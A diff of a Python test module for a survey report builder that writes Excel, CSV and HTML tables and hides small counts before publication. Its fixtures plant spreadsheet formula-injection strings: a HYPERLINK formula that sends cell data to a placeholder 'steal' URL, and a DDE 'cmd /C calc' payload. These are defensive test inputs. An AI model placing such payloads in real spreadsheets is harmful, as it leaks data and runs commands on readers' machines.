@@ -12,10 +12,11 @@ import pandas as pd
 import pytest
 from conftest import HtmlReferences
 
-from analysis.report import build_report, load_report_study, publishable, registry
+from analysis.report import registry
+from analysis.report.build import build_report, load_report_study, publishable
 from analysis.report.registry import ReportTable
 from analysis.report.writers import HEADER_ROW
-from analysis.schema import TABLES, conform
+from analysis.study.schema import TABLES, conform
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/steal?x="&A1,"詳細")'
 
@@ -23,42 +24,81 @@ HYPERLINK = '=HYPERLINK("http://example.invalid/steal?x="&A1,"詳細")'
 def write_processed_year(folder: Path, year: int, levels: list[str | None]) -> Path:
     """A processed folder as `survey ingest` writes it, from hand-made frames."""
     folder.mkdir(parents=True, exist_ok=True)
-    respondents = [{"respondent_id": f"U{i:02d}", "group": "user", "fiscal_year": year, "industry": "manufacturing"}
-                   for i in range(1, 11)]
-    respondents += [{"respondent_id": "V01", "group": "vendor", "fiscal_year": year, "description": "教育サービス"},
-                    {"respondent_id": "V02", "group": "vendor", "fiscal_year": year, "description": HYPERLINK}]
-    respondents += [{"respondent_id": f"I{i:02d}", "group": "investor", "fiscal_year": year, "n_interviewees": 1}
-                    for i in range(1, 9)]
+    respondents = [
+        {"respondent_id": f"U{i:02d}", "group": "user", "fiscal_year": year, "industry": "manufacturing"}
+        for i in range(1, 11)
+    ]
+    respondents += [
+        {"respondent_id": "V01", "group": "vendor", "fiscal_year": year, "description": "教育サービス"},
+        {"respondent_id": "V02", "group": "vendor", "fiscal_year": year, "description": HYPERLINK},
+    ]
+    respondents += [
+        {"respondent_id": f"I{i:02d}", "group": "investor", "fiscal_year": year, "n_interviewees": 1}
+        for i in range(1, 9)
+    ]
     statements = [
         {"statement_id": "S1", "respondent_id": "V01", "respondent_group": "vendor", "section": 1, "text": "資格"},
         {"statement_id": "S2", "respondent_id": "V02", "respondent_group": "vendor", "section": 2, "text": "体制"},
         {"statement_id": "S3", "respondent_id": "U01", "respondent_group": "user", "section": 1, "text": HYPERLINK},
-        {"statement_id": "S4", "respondent_id": "U02", "respondent_group": "user", "section": 1,
-         "text": "@SUM(1+1)*cmd|' /C calc'!A0"},
+        {
+            "statement_id": "S4",
+            "respondent_id": "U02",
+            "respondent_group": "user",
+            "section": 1,
+            "text": "@SUM(1+1)*cmd|' /C calc'!A0",
+        },
         {"statement_id": "S5", "respondent_id": "U03", "respondent_group": "user", "section": 2, "text": "-10%削減"},
     ]
     for row in statements:
         row.update(fiscal_year=year, category_id=f"u0{row['section']}-01")
     disclosures = []
-    for company, region, items in [("O1", "overseas", (True, True)), ("O2", "overseas", (True, year > 2020)),
-                                   ("D1", "domestic", (True, False)), ("D2", "domestic", (False, False))]:
+    for company, region, items in [
+        ("O1", "overseas", (True, True)),
+        ("O2", "overseas", (True, year > 2020)),
+        ("D1", "domestic", (True, False)),
+        ("D2", "domestic", (False, False)),
+    ]:
         for item, disclosed in zip(("governance_structure", "mitigation_measures"), items, strict=True):
-            disclosures.append({"company_id": company, "fiscal_year": year, "region": region,
-                                "country": "US" if region == "overseas" else "JP", "item": item,
-                                "disclosed": disclosed})
-    meetings = [{"table": "2.3", "body": "タスクフォース", "round": r, "date": f"{year}-10-0{r}", "topics": "+議題"}
-                for r in (1, 2)]
+            disclosures.append(
+                {
+                    "company_id": company,
+                    "fiscal_year": year,
+                    "region": region,
+                    "country": "US" if region == "overseas" else "JP",
+                    "item": item,
+                    "disclosed": disclosed,
+                }
+            )
+    meetings = [
+        {"table": "2.3", "body": "タスクフォース", "round": r, "date": f"{year}-10-0{r}", "topics": "+議題"}
+        for r in (1, 2)
+    ]
     literature = [{"table": "3.2", "region": "米国", "title": "NICE", "issuer": "NIST", "published": "2020-11"}]
-    frames = {"respondents": respondents, "statements": statements, "disclosures": disclosures,
-              "meetings": meetings, "literature": literature}
+    frames = {
+        "respondents": respondents,
+        "statements": statements,
+        "disclosures": disclosures,
+        "meetings": meetings,
+        "literature": literature,
+    }
     for name in TABLES:
         frame = conform(name, pd.DataFrame(frames.get(name, [])))
         frame.to_csv(folder / f"{name}.csv", index=False, lineterminator="\n")
         frame.to_parquet(folder / f"{name}.parquet", index=False)
-    pd.DataFrame([{"severity": "error", "file": "株式会社サンプル_U01.xlsx", "sheet": "回答", "cell": "C5",
-                   "message": "expected 1-5; got '=1+1'"}]).to_csv(folder / "issues.csv", index=False)
-    pd.DataFrame({"respondent_id": [f"U{i:02d}" for i in range(1, 11)], "fiscal_year": year,
-                  "level": levels}).to_csv(folder / "maturity.csv", index=False)
+    pd.DataFrame(
+        [
+            {
+                "severity": "error",
+                "file": "株式会社サンプル_U01.xlsx",
+                "sheet": "回答",
+                "cell": "C5",
+                "message": "expected 1-5; got '=1+1'",
+            }
+        ]
+    ).to_csv(folder / "issues.csv", index=False)
+    pd.DataFrame({"respondent_id": [f"U{i:02d}" for i in range(1, 11)], "fiscal_year": year, "level": levels}).to_csv(
+        folder / "maturity.csv", index=False
+    )
     (folder / "ingest.json").write_text(json.dumps({"edition": "fy2021", "fiscal_year": year}), encoding="utf-8")
     return folder
 
@@ -67,10 +107,20 @@ def _statements_builder(study, ctx):
     frame = study.statements[["statement_id", "respondent_id", "section", "text"]].reset_index(drop=True)
     per_section = frame.groupby("section").size().rename("n").reset_index()
     per_section["n"] = per_section["n"].astype("Int64")
-    return [ReportTable("test_statements", "発言", "Statements", frame, section="statements",
-                        respondent_columns=("respondent_id",)),
-            ReportTable("test_statement_counts", "節ごとの発言数", "Statements per section", per_section,
-                        section="statements", counts=("n",), layout={"part_columns": []})]
+    return [
+        ReportTable(
+            "test_statements", "発言", "Statements", frame, section="statements", respondent_columns=("respondent_id",)
+        ),
+        ReportTable(
+            "test_statement_counts",
+            "節ごとの発言数",
+            "Statements per section",
+            per_section,
+            section="statements",
+            counts=("n",),
+            layout={"part_columns": []},
+        ),
+    ]
 
 
 @pytest.fixture
@@ -78,8 +128,11 @@ def own_builders(monkeypatch):
     """The builders of this module's files plus a statements table (other modules' builders are
     tested in their own files and in test_every_registered_builder_on_a_small_year)."""
     registry.builders()  # import every builder module once
-    mine = {name: entry for name, entry in registry._REGISTRY.items()
-            if name.startswith(("records.", "appendix.", "year_over_year."))}
+    mine = {
+        name: entry
+        for name, entry in registry._REGISTRY.items()
+        if name.startswith(("records.", "appendix.", "year_over_year."))
+    }
     mine["test.statements"] = (35, _statements_builder)
     monkeypatch.setattr(registry, "_REGISTRY", mine)
 
@@ -120,8 +173,17 @@ def test_workbook_has_a_sheet_for_every_table_with_typed_numbers(own_builders, y
     book = openpyxl.load_workbook(out / "tables.xlsx")
     assert book.sheetnames[0] == "目次"
     linked = _contents(book, out)
-    for name in ("table_1_1", "table_2_2", "table_2_3", "table_3_2", "yoy_maturity_levels",
-                 "yoy_disclosure_coverage", "appendix_tables", "appendix_problems", "test_statements"):
+    for name in (
+        "table_1_1",
+        "table_2_2",
+        "table_2_3",
+        "table_3_2",
+        "yoy_maturity_levels",
+        "yoy_disclosure_coverage",
+        "appendix_tables",
+        "appendix_problems",
+        "test_statements",
+    ):
         assert name in linked
 
     items = book[linked["table_1_1"]]
@@ -172,8 +234,6 @@ def test_two_builds_give_identical_csv_markdown_and_cell_values(own_builders, ye
     assert _cells(one / "tables.xlsx") == _cells(two / "tables.xlsx")
 
 
-
-
 def _check_page(folder: Path) -> list[str]:
     parser = HtmlReferences()
     parser.feed((folder / "index.html").read_text(encoding="utf-8"))
@@ -197,7 +257,7 @@ def test_index_html_references_only_files_that_exist(own_builders, years, tmp_pa
 
 
 def test_publish_hides_small_cells_and_respondent_ids(own_builders, years, tmp_path):
-    pytest.importorskip("analysis.suppression")
+    pytest.importorskip("analysis.tabulation.suppression")
     previous, current = years
     out = build_report(current, tmp_path / "report", publish=True, previous_dir=previous)
     everything = "".join(p.read_text(encoding="utf-8") for p in out.rglob("*") if p.suffix in (".csv", ".md", ".html"))
@@ -223,27 +283,27 @@ def test_publish_fails_closed_without_the_publication_module(own_builders, years
     _, current = years
     out = build_report(current, tmp_path / "report")
     before = (out / "index.html").read_bytes()
-    monkeypatch.setitem(sys.modules, "analysis.publication", None)  # import fails
+    monkeypatch.setitem(sys.modules, "analysis.report.publication", None)  # import fails
     with pytest.raises(ImportError):
         build_report(current, out, publish=True)
     assert (out / "index.html").read_bytes() == before
 
 
 def test_publish_fails_when_its_own_audit_narrows_a_cell(own_builders, years, tmp_path, monkeypatch):
-    import analysis.audit
-    from analysis.report import AuditFailed
+    import analysis.report.audit
+    from analysis.report.build import AuditFailed
 
     _, current = years
     out = build_report(current, tmp_path / "report")
     before = (out / "index.html").read_bytes()
-    real = analysis.audit.audit_reports
+    real = analysis.report.audit.audit_reports
 
     def pinned(reports, rule=None, values=None):
         result = real(reports, rule, values)
         result.frame.loc[:, "protected"] = False  # as if a reader pinned every hidden cell
         return result
 
-    monkeypatch.setattr(analysis.audit, "audit_reports", pinned)
+    monkeypatch.setattr(analysis.report.audit, "audit_reports", pinned)
     with pytest.raises(AuditFailed, match="not written"):
         build_report(current, out, publish=True)
     assert (out / "index.html").read_bytes() == before
@@ -251,12 +311,21 @@ def test_publish_fails_when_its_own_audit_narrows_a_cell(own_builders, years, tm
 
 
 def test_publishable_hides_small_counts_and_drops_respondent_ids():
-    from analysis.suppression import TableLayout
+    from analysis.tabulation.suppression import TableLayout
 
     frame = pd.DataFrame({"respondent_id": ["U01", "U02"], "n": pd.array([1, 9], dtype="Int64"), "share": [0.1, 0.9]})
     layout = TableLayout(part_columns=(), percent_of={"share": "n"})
-    table = ReportTable("t", "t", "t", frame, counts=("n",), percents=("share",), respondent_columns=("respondent_id",),
-                        note_ja="注", layout=layout.as_mapping())
+    table = ReportTable(
+        "t",
+        "t",
+        "t",
+        frame,
+        counts=("n",),
+        percents=("share",),
+        respondent_columns=("respondent_id",),
+        note_ja="注",
+        layout=layout.as_mapping(),
+    )
     (published,) = publishable([table], 7, marker="x", notes=("秘匿", "hidden"))
     assert list(published.frame.columns) == ["n", "share"]
     assert published.frame["n"].tolist() == ["x", 9] and published.frame["share"].tolist() == ["x", 0.9]
@@ -282,8 +351,16 @@ def test_publish_leaves_out_respondent_level_tables_with_a_note_and_no_warning(o
 
     def per_company(study, ctx):
         frame = pd.DataFrame({"industry": ["製造業", "金融業"], "score": [3.5, 2.0]})
-        return [ReportTable("test_per_company", "個社別スコア", "Score per company", frame, section="statements",
-                            respondent_level=True)]
+        return [
+            ReportTable(
+                "test_per_company",
+                "個社別スコア",
+                "Score per company",
+                frame,
+                section="statements",
+                respondent_level=True,
+            )
+        ]
 
     registry._REGISTRY["test.per_company"] = (36, per_company)
     _, current = years
@@ -332,8 +409,7 @@ def test_survey_report_command_in_english(own_builders, years, tmp_path):
     book = openpyxl.load_workbook(out / "tables.xlsx")
     assert book.sheetnames[0] == "Contents"
     meetings = book[_contents(book, out)["table_2_3"]]
-    assert [c.value for c in meetings[HEADER_ROW]] == ["Meeting", "Date (as printed)", "Date (ISO 8601)",
-                                                       "Main topics"]
+    assert [c.value for c in meetings[HEADER_ROW]] == ["Meeting", "Date (as printed)", "Date (ISO 8601)", "Main topics"]
     assert '<html lang="en">' in (out / "index.html").read_text(encoding="utf-8")
 
 
@@ -341,8 +417,9 @@ def test_every_registered_builder_on_a_small_year(years, tmp_path):
     """The whole report as `survey run` builds it, every builder of every module included."""
     previous, current = years
     out = build_report(current, tmp_path / "report", previous_dir=previous)
-    assert not (out / "tables" / "appendix_failures.csv").exists(), \
-        (out / "tables" / "appendix_failures.csv").read_text(encoding="utf-8-sig")
+    assert not (out / "tables" / "appendix_failures.csv").exists(), (
+        out / "tables" / "appendix_failures.csv"
+    ).read_text(encoding="utf-8-sig")
     _check_page(out)
     book = openpyxl.load_workbook(out / "tables.xlsx")
     _contents(book, out)
@@ -354,11 +431,19 @@ def test_every_registered_builder_on_a_small_year(years, tmp_path):
 
 
 def test_publishable_hides_test_statistics_with_their_counts():
-    frame = pd.DataFrame({"item": ["a", "b", "c"], "n": pd.array([2, 7, 6], dtype="Int64"),
-                          "N": pd.array([9, 9, 9], dtype="Int64"), "p": [0.01, 0.2, 0.5], "chi2": [3.0, 3.0, 3.0]})
+    frame = pd.DataFrame(
+        {
+            "item": ["a", "b", "c"],
+            "n": pd.array([2, 7, 6], dtype="Int64"),
+            "N": pd.array([9, 9, 9], dtype="Int64"),
+            "p": [0.01, 0.2, 0.5],
+            "chi2": [3.0, 3.0, 3.0],
+        }
+    )
     layout = {"part_columns": [], "row_inequalities": [[["n"], ["N"]]]}
-    table = ReportTable("tests", "t", "t", frame, counts=("n", "N"), statistics=("p",), table_statistics=("chi2",),
-                        layout=layout)
+    table = ReportTable(
+        "tests", "t", "t", frame, counts=("n", "N"), statistics=("p",), table_statistics=("chi2",), layout=layout
+    )
     (published,) = publishable([table], 5, marker="x")
     shown = published.frame
     assert shown.loc[0, "n"] == "x" and shown.loc[0, "p"] == "x"  # p would give n = 2 away
@@ -368,8 +453,9 @@ def test_publishable_hides_test_statistics_with_their_counts():
     assert (shown["chi2"] == "x").all()  # a test over the whole table goes with any hidden count
     # A test of each row that also uses a denominator row: hidden everywhere when it is.
     frame = pd.DataFrame({"n": pd.array([6, 2, 8], dtype="Int64"), "p": [0.1, 0.2, None]})
-    table = ReportTable("rows", "t", "t", frame, counts=("n",), statistics=("p",),
-                        layout={"total_row": 2, "denominator_rows": [2]})
+    table = ReportTable(
+        "rows", "t", "t", frame, counts=("n",), statistics=("p",), layout={"total_row": 2, "denominator_rows": [2]}
+    )
     (published,) = publishable([table], 5, marker="x")
     assert published.frame.loc[1, "n"] == "x" and published.frame.loc[0, "p"] == "x"
 
@@ -385,10 +471,10 @@ def test_publishable_leaves_out_a_table_without_a_layout(codebook):
 def test_every_table_with_counts_declares_a_layout(tmp_path):
     import warnings
 
-    from analysis.ingest import ingest
-    from analysis.report import collect_items
+    from analysis.collect.sample.generate import write_sample
+    from analysis.ingest.folder import ingest
+    from analysis.report.build import collect_items
     from analysis.report.registry import ReportContext
-    from analysis.sample.generate import write_sample
 
     write_sample(tmp_path / "raw")
     ingest(tmp_path / "raw" / "2021", out_dir=tmp_path / "p", fiscal_year=2021, progress=False)
@@ -398,8 +484,11 @@ def test_every_table_with_counts_declares_a_layout(tmp_path):
     assert not failures, failures
     tables = {t.name: t for t in items if isinstance(t, ReportTable) and t.counts}
     # year_over_year.py is maintained elsewhere; every other builder declares its layouts.
-    missing = [name for name, t in tables.items()
-               if t.layout is None and "layout" not in t.frame.attrs and not name.startswith("yoy_")]
+    missing = [
+        name
+        for name, t in tables.items()
+        if t.layout is None and "layout" not in t.frame.attrs and not name.startswith("yoy_")
+    ]
     assert not missing, missing
     sensitivity = tables["maturity_sensitivity"]
     layout = sensitivity.layout
